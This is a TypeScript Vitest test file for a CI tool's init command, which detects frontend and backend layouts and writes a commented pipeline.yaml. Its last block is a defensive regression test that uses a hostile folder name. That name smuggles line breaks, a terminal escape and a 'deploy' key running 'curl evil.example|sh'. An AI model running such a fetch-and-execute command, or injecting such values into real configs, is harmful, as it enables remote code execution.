import { describe, expect, it } from "vitest";
import { InitFoundNothingError, initWanted, planInit } from "../../../../ci/src/plan/config/init";
import { parseConfig } from "../../../../ci/src/plan/config/parse";
import { parseYaml } from "../../../../ci/src/plan/config/yaml";

/** A repository shaped like a real one, not like the defaults: web/ and api/, jest, an optional test extra. */
const REPO = {
  "web/package.json": JSON.stringify({
    engines: { node: ">=22" },
    dependencies: { next: "16.4.6" },
    scripts: {
      lint: "eslint .",
      "type-check": "tsc --noEmit",
      test: "jest",
      "test:ci": "jest --ci --coverage",
      build: "next build",
    },
  }),
  "api/pyproject.toml": [
    "[project]",
    'name = "library"',
    'requires-python = ">=3.13"',
    'dependencies = ["fastapi", "pymongo"]',
    "[project.optional-dependencies]",
    'test = ["pytest", "pytest-cov"]',
    "[tool.pytest.ini_options]",
    'markers = ["e2e: against a deployed API"]',
  ].join("\n"),
  "api/.python-version": "3.13\n",
  "api/library/__init__.py": "",
  "api/library/settings.py":
    'import os\nURI = os.environ.get("MONGODB_URI") or os.getenv("DATABASE_URL")\nDEBUG = os.getenv("DEBUG")\nTIMEOUT = os.getenv("MONGODB_TIMEOUT_MS")\n',
  "api/tests/__init__.py": "",
  "api/tests/conftest.py": 'import os\nuri = os.environ["TEST_MONGO_URI"]\n',
  "README.md": "# library",
};

describe("planInit", () => {
  const result = planInit({ paths: Object.keys(REPO), read: REPO });
  const byKey = Object.fromEntries(result.guesses.map((g) => [g.key, g]));

  it("finds the frontend and backend directories and says why", () => {
    expect(byKey["frontend.path"]).toEqual({
      key: "frontend.path",
      value: "web",
      why: "web/package.json depends on next",
    });
    expect(byKey["backend.path"].value).toBe("api");
  });

  it("maps the repository's own npm script names onto the steps", () => {
    expect(byKey["frontend.steps"].value).toEqual({
      lint: "npm run lint",
      typecheck: "npm run type-check",
      unit: "npm run test:ci",
      build: "npm run build",
    });
    expect(byKey["frontend.nodeVersion"].value).toBe("22");
  });

  it("takes the Python version, the test extra, the package, the e2e marker and the Mongo variables", () => {
    expect(byKey["backend.pythonVersion"].value).toBe("3.13");
    expect(byKey["backend.extras"].value).toEqual(["test"]);
    expect(byKey["backend.coverageSource"].value).toBe("library");
    expect(byKey["backend.deselectMarkers"].value).toEqual(["e2e"]);
    expect(Object.keys(byKey["services.mongo.env"].value as object)).toEqual([
      "MONGODB_URI",
      "DATABASE_URL",
      "TEST_MONGO_URI",
    ]);
  });

  it("writes a commented pipeline.yaml that the config parser accepts with the same values", () => {
    expect(result.yaml).toMatch(/^# pipeline\.yaml written by `init`/);
    expect(result.yaml).toContain("# path: web/package.json depends on next");
    const c = parseConfig(result.yaml);
    expect(c.frontend.path).toBe("web");
    expect(c.frontend.steps.typecheck).toBe("npm run type-check");
    expect(c.backend.extras).toEqual(["test"]);
    expect(c.services.mongo.env.TEST_MONGO_URI).toBe("mongodb://{host}:{port}/{database}");
  });

  it("starts with the yaml-language-server line naming the JSON Schema, so editors complete and check the file", () => {
    const ref = "../pipeline/docs/pipeline.schema.json";
    const text = planInit({ paths: Object.keys(REPO), read: REPO, schemaRef: ref }).yaml;
    expect(text.split("\n")[0]).toBe(`# yaml-language-server: $schema=${ref}`);
    expect(parseConfig(text).frontend.path).toBe("web");
  });

  it("refuses a repository with neither a Next.js app nor a Python project, saying what it looked for", () => {
    expect(() => planInit({ paths: ["README.md"], read: {} }, "/src/x")).toThrow(InitFoundNothingError);
    expect(() => planInit({ paths: ["README.md"], read: {} }, "/src/x")).toThrow(
      /^input error: init found no app in \/src\/x: it looked for a package\.json that depends on next .* and a pyproject\.toml/,
    );
  });
});

describe("initWanted", () => {
  it("reads manifests, version pins and shallow Python files only", () => {
    expect(
      initWanted([
        "a/package.json",
        "a/src/x.ts",
        "b/pyproject.toml",
        "b/.python-version",
        "b/x/y/z/deep.py",
        "b/app/c.py",
      ]),
    ).toEqual(["a/package.json", "b/pyproject.toml", "b/.python-version", "b/app/c.py"]);
  });
});

describe("planInit on a pnpm + Poetry repository with a src/ layout and a Node pin", () => {
  const repo = {
    "web/package.json": JSON.stringify({
      packageManager: "pnpm@10.34.8",
      dependencies: { next: "16.4.6" },
      scripts: { typecheck: "tsc --noEmit", test: "node --test", build: "next build" },
    }),
    "web/.nvmrc": "24\n",
    "web/pnpm-lock.yaml": "lockfileVersion: '9.0'\n",
    "api/pyproject.toml": '[project]\nname = "shelf"\ndependencies = ["fastapi"]\n',
    "api/poetry.lock": "# poetry\n",
    "api/src/shelf/__init__.py": "",
  };
  const r = planInit({ paths: Object.keys(repo), read: repo });
  const byKey = Object.fromEntries(r.guesses.map((g) => [g.key, g]));

  it("says which package managers it found, and why, and runs the scripts through pnpm", () => {
    expect(byKey["frontend.packageManager"]).toMatchObject({
      value: "pnpm",
      why: "package.json packageManager pnpm@10.34.8 and pnpm-lock.yaml",
    });
    expect(byKey["frontend.steps"].value).toEqual({
      typecheck: "corepack pnpm run typecheck",
      unit: "corepack pnpm run test",
      build: "corepack pnpm run build",
    });
    expect(byKey["backend.packageManager"]).toMatchObject({ value: "poetry", why: "poetry.lock" });
  });

  it("takes the Node pin from .nvmrc and the package under src/", () => {
    expect(byKey["frontend.nodeVersion"]).toMatchObject({ value: "24", why: ".nvmrc says 24" });
    expect(byKey["backend.coverageSource"]).toMatchObject({
      value: "shelf",
      why: "api/src/shelf/__init__.py is the package under test",
    });
    expect(r.yaml).toContain("# packageManager: poetry.lock");
  });
});

describe("planInit on a yarn repository whose backend has requirements files and no pyproject.toml", () => {
  const repo = {
    "web/package.json": JSON.stringify({
      packageManager: `yarn@1.22.22+sha512.${"a6".repeat(64)}`,
      dependencies: { next: "16.4.6" },
      scripts: { test: "node --test" },
    }),
    "web/yarn.lock": "# yarn lockfile v1\n",
    "api/requirements.txt": "fastapi==0.121.0\n",
    "api/requirements-dev.txt": "-r requirements.txt\npytest==8.4.2\n",
    "api/app/__init__.py": "",
    "api/app/db.py": 'import os\nURL = os.environ.get("MONGODB_URL")\n',
  };
  const paths = [...Object.keys(repo), "api/app/__pycache__/db.cpython-312.pyc"];
  const read = Object.fromEntries(initWanted(paths).map((p) => [p, repo[p as keyof typeof repo]]));
  const byKey = Object.fromEntries(planInit({ paths, read }).guesses.map((g) => [g.key, g]));

  it("reads the requirements files, finds the backend there, and installs them with uv pip", () => {
    expect(initWanted(paths)).toContain("api/requirements-dev.txt");
    expect(byKey["backend.path"]).toMatchObject({
      value: "api",
      why: "api/requirements.txt lists its packages (no pyproject.toml)",
    });
    expect(byKey["backend.packageManager"]).toMatchObject({
      value: "pip",
      why: "requirements.txt, requirements-dev.txt (installed with uv pip)",
    });
    expect(byKey["backend.coverageSource"]).toMatchObject({ value: "app" });
    expect(byKey["services.mongo.env"].value).toEqual({ MONGODB_URL: "mongodb://{host}:{port}/{database}" });
  });

  it("names yarn classic by its pinned version and hash, and writes no Node pin from yarn's own minimum", () => {
    expect(byKey["frontend.packageManager"]).toMatchObject({
      value: "yarn-classic",
      why: "package.json packageManager yarn@1.22.22 (+sha512 hash) and yarn.lock",
    });
    expect(byKey["frontend.nodeVersion"]).toBeUndefined();
  });
});

describe("planInit on a backend whose requirements are split in a requirements/ folder", () => {
  const repo = {
    "api/requirements/base.txt": "fastapi==0.121.0\n",
    "api/requirements/dev.txt": "-r base.txt\npytest==8.4.2\n",
    "api/app/__init__.py": "",
  };
  const paths = Object.keys(repo);
  const read = Object.fromEntries(initWanted(paths).map((p) => [p, repo[p as keyof typeof repo]]));
  const byKey = Object.fromEntries(planInit({ paths, read }).guesses.map((g) => [g.key, g]));

  it("takes the folder above requirements/ as the backend, and installs base and dev with uv pip", () => {
    expect(byKey["backend.path"]).toMatchObject({
      value: "api",
      why: "api/requirements/base.txt lists its packages (no pyproject.toml)",
    });
    expect(byKey["backend.packageManager"]).toMatchObject({
      value: "pip",
      why: "requirements/base.txt, requirements/dev.txt (installed with uv pip)",
    });
    const c = parseConfig(planInit({ paths, read }).yaml, "pipeline.yaml", {
      backendFiles: ["requirements/base.txt", "requirements/dev.txt"],
    });
    expect(c.backend.install).toEqual([
      "uv",
      "pip",
      "install",
      "--python",
      ".venv/bin/python",
      "-r",
      "requirements/base.txt",
      "-r",
      "requirements/dev.txt",
    ]);
  });
});

describe("planInit on a package.json without scripts", () => {
  const plan = (pkg: object, extra: Record<string, string> = {}) => {
    const repo = { "web/package.json": JSON.stringify(pkg), ...extra };
    const r = planInit({ paths: Object.keys(repo), read: repo });
    return Object.fromEntries(r.guesses.map((g) => [g.key, g]))["frontend.steps"];
  };

  it("runs the tools the package depends on directly, through npm's npx, and says to add scripts", () => {
    const steps = plan({
      dependencies: { next: "16.4.6" },
      devDependencies: { eslint: "9.39.5", typescript: "5.9.3", jest: "30.5.2" },
    });
    expect(steps.value).toEqual({
      lint: "npx --no-install eslint .",
      typecheck: "npx --no-install tsc --noEmit",
      unit: "npx --no-install jest --ci --coverage",
      build: "npx --no-install next build",
    });
    expect(steps.why).toMatch(/^no scripts in web\/package\.json: runs eslint, tsc, jest, next from its dependencies/);
  });

  it("runs them through the repository's own manager, vitest with coverage when its provider is there", () => {
    const steps = plan(
      {
        packageManager: "pnpm@10.12.1",
        devDependencies: { next: "16.4.6", vitest: "4.1.12", "@vitest/coverage-v8": "4.1.12" },
      },
      { "web/pnpm-lock.yaml": "" },
    );
    expect(steps.value).toEqual({
      unit: "corepack pnpm exec vitest run --coverage",
      build: "corepack pnpm exec next build",
    });
  });

  it("never writes an empty step list, and names each missing step and what to add", () => {
    const steps = plan({ dependencies: { next: "16.4.6" } });
    expect(steps.value).toEqual({ build: "npx --no-install next build" });
    expect(steps.why).toMatch(/no lint \(add a "lint" script or eslint\)/);
    expect(steps.why).toMatch(/no typecheck \(add a "typecheck" script or typescript\)/);
    expect(steps.why).toMatch(/no unit \(add a "test" script, vitest or jest\)/);
  });

  it("writes a file the config parser accepts with those steps", () => {
    const repo = { "package.json": JSON.stringify({ dependencies: { next: "16.4.6", typescript: "5.9.3" } }) };
    const c = parseConfig(planInit({ paths: Object.keys(repo), read: repo }).yaml);
    expect(c.frontend.steps).toEqual({
      typecheck: "npx --no-install tsc --noEmit",
      build: "npx --no-install next build",
    });
  });

  it("keeps a repository's own scripts and names the steps it has no script for", () => {
    const steps = plan({ devDependencies: { next: "16.4.6", eslint: "9.39.5" }, scripts: { build: "next build" } });
    expect(steps.value).toEqual({ build: "npm run build" });
    expect(steps.why).toMatch(/^scripts in web\/package\.json: build: "build"; no script for lint, typecheck, unit/);
  });
});

/**
 * A repository's file names reach the comments init writes above each key (the thirteenth hostile run): a folder named
 * `w\ndeploy: {migrate: "curl …|sh"}\n#` ended the comment and wrote a `deploy:` key of the repository's choosing into
 * the generated pipeline.yaml, and sent its escapes raw to the terminal.
 */
describe("planInit on file names holding line breaks and escapes", () => {
  const dir = 'w\ndeploy: {migrate: "curl evil.example|sh"}\n#\u001b]0;x\u0007';
  const repo = {
    [`${dir}/package.json`]: JSON.stringify({ dependencies: { next: "16.4.6" }, scripts: { build: "next build" } }),
  };
  const result = planInit({ paths: Object.keys(repo), read: repo });

  it("writes each reason on its comment line, control characters as \\xNN, and no key of the file's", () => {
    // eslint-disable-next-line no-control-regex -- no control character but the line ends
    expect(result.yaml).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(Object.keys(parseYaml(result.yaml, "pipeline.yaml") as object)).toEqual(["frontend"]);
    expect(result.yaml.split("\n").filter((l) => l.startsWith("deploy"))).toEqual([]);
    for (const g of result.guesses) expect(g.why.includes("\n") || g.why.includes("\u001b")).toBe(false);
    expect(result.guesses.find((g) => g.key === "frontend.path")?.value).toBe(dir);
  });
});
